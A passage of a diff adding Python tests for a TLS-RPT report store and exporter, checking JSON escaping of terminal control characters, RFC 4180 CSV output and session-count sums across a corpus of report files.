+    assert _undone(cells["additional_information"]) == _shown(information)
+
+
+def test_json_is_exact_and_does_nothing_in_a_terminal(sqlite_engine: sa.Engine, settings: Settings) -> None:
+    text = "\x1b[31m \x9b31m \x7f \u202e \u2066 \u2028 é 中"
+    store_report(sqlite_engine, report_json(entry(0, 1, detail(additional_information=text))), settings)
+    data = exported(sqlite_engine, "failures", "json").decode()
+    assert json.loads(data)[0]["additional_information"] == text
+    assert _shown(data.replace("\n", "")) == data.replace("\n", "")
+    assert "é 中" in data
+
+
+def test_our_own_values_carry_no_apostrophe(sqlite_engine: sa.Engine, settings: Settings) -> None:
+    store_report(sqlite_engine, report_json(), settings)
+    for kind in EXPORTS:
+        assert b"'" not in exported(sqlite_engine, kind)
+
+
+def test_csv_lines_end_as_rfc_4180_says(sqlite_engine: sa.Engine, settings: Settings) -> None:
+    helo = 'mx1.receiver.example\nSIZE 1, "8BITMIME"'
+    store_report(sqlite_engine, report_json(entry(0, 1, detail(receiving_mx_helo=helo))), settings)
+    data = exported(sqlite_engine, "failures")
+    assert data.endswith(b"\r\n")
+    assert b',"mx1.receiver.example\nSIZE 1, ""8BITMIME""",' in data
+    assert data.replace(helo.replace('"', '""').encode(), b"").count(b"\n") == data.count(b"\r\n") == 2
+
+
+# The corpus, against an independent reading
+
+FILES = sorted(path for path in CORPUS.rglob("*") if path.suffix in {".json", ".gz", ".eml"}) if CORPUS.exists() else []
+KNOWN = {
+    line["file"]: line["report"]
+    for line in map(json.loads, (CORPUS / "EXPECTED.jsonl").read_text().splitlines() if FILES else [])
+}
+
+
+def _policies(path: Path) -> list[dict[str, Any]] | None:
+    """The ``policies`` of the report in a file, with nothing but the standard library."""
+    data = path.read_bytes()
+    if path.suffix == ".eml":
+        parts = [part.get_payload(decode=True) or b"" for part in email.message_from_bytes(data).walk()]
+        data = next((part for part in parts if part[:2] == b"\x1f\x8b" or part.lstrip()[:1] == b"{"), b"")
+    try:
+        value = json.loads(gzip.decompress(data) if data[:2] == b"\x1f\x8b" else data)
+    except (ValueError, EOFError, OSError):
+        return None
+    return value.get("policies") if isinstance(value, dict) and value.get("date-range") else None
+
+
+def _expected_sums(policies: list[dict[str, Any]]) -> tuple[int, int, int]:
+    """Successful sessions, failed sessions, and the failures of details plus what the details do not explain."""
+    successful = failed = told = 0
+    for policy in policies:
+        summary = policy.get("summary") or {}
+        total = int(summary.get("total-failure-session-count") or 0)
+        details = sum(int(row.get("failed-session-count") or 0) for row in policy.get("failure-details") or [])
+        successful += int(summary.get("total-successful-session-count") or 0)
+        failed += total
+        told += details + max(0, total - details)
+    return successful, failed, told
+
+
+def _sums(engine: sa.Engine) -> tuple[int, int, int]:
+    summary, failures = csv_rows(exported(engine, "summary")), csv_rows(exported(engine, "failures"))
+    return (
+        sum(int(row["successful_sessions"] or 0) for row in summary),
+        sum(int(row["failed_sessions"] or 0) for row in summary),
+        sum(int(row["failed_sessions"] or 0) for row in failures),
+    )
+
+
+@pytest.mark.skipif(not FILES, reason="needs the shared corpus")
+@pytest.mark.parametrize("path", FILES, ids=lambda path: str(path.relative_to(CORPUS)))
+def test_the_sums_of_a_corpus_file(empty: sa.Engine, settings: Settings, path: Path) -> None:
+    tally = store_file(empty, path.read_bytes(), settings, name=path.name, door=trace.LOAD)
+    if KNOWN[str(path.relative_to(CORPUS))] is None:
+        assert (tally.stored, _sums(empty)) == (0, (0, 0, 0))
+        return
+    policies = _policies(path)
+    assert policies is not None
+    assert tally.stored == 1
+    assert _sums(empty) == _expected_sums(policies)
+
+
+@pytest.mark.skipif(not FILES, reason="needs the shared corpus")
+def test_the_sums_of_the_whole_corpus(engine: sa.Engine) -> None:
+    settings = settings_module.load()
+    totals = [0, 0, 0]
+    for path in FILES:
+        if store_file(engine, path.read_bytes(), settings, name=path.name).stored:
+            totals = [total + one for total, one in zip(totals, _expected_sums(_policies(path) or []), strict=True)]
+    assert _sums(engine) == tuple(totals)
+    assert totals[0] > 0
